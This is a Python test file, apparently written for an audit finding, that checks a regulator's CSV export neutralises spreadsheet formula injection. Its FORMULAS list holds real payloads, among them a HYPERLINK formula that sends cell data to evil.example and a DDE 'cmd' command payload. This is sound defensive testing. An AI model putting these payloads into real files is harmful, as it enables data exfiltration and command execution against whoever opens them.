"""Finding 3: CSV formula injection. A tipster names the subject `=HYPERLINK(…)`; the regulator's export,
made for Excel, must carry it as inert text."""

from __future__ import annotations

import csv
import io

from tests.web.conftest import file_tip, login, make_staff
from web.export import neutralise

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


async def test_formula_cells_are_exported_inert(client, web_settings) -> None:
    await make_staff("exporter", "supervisor", "130100")
    for text in FORMULAS:
        await file_tip(web_settings, subject_name=text)
    await login(client, "exporter")
    answer = await client.get("/admin/export.csv?status=all&lang=en")
    rows = list(csv.reader(io.StringIO((await answer.read()).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    titles = [row[-1] for row in rows[1:]]
    assert any(t.startswith("'=HYPERLINK(") for t in titles), titles


def test_neutralise_leaves_ordinary_values() -> None:
    assert neutralise("石家庄某某建筑有限公司") == "石家庄某某建筑有限公司"
    assert neutralise(-5) == -5 and neutralise("") == ""
    assert neutralise("=1") == "'=1"
